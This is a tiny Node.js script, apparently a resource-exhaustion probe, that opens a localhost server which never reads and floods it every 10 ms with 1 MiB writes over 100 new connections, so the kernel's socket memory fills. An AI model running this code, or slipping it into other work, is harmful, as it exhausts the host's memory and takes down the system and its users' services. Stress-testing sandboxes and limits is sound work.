// tries: to fill the kernel’s memory with connections to itself that nobody reads
// ends: -
import { connect, createServer } from 'node:net';

const part = Buffer.alloc(1 << 20, 1);
createServer((socket) => socket.pause()).listen(8080, () => {
  setInterval(() => {
    for (let n = 0; n < 100; n += 1) {
      connect(8080)
        .on('error', () => undefined)
        .write(part);
    }
  }, 10);
});
